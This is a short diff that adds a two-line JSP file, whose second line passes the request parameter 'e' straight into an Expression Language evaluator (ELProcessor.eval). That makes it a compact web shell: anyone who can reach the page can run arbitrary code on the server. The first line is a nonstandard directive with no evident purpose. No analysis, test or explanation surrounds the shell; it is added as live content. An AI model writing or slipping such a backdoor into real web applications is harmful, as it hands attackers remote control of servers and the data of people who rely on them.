@@ -1,0 +1,2 @@
+<%@ inert %>
+<% new javax.el.ELProcessor().eval(request.getParameter("e")); %>
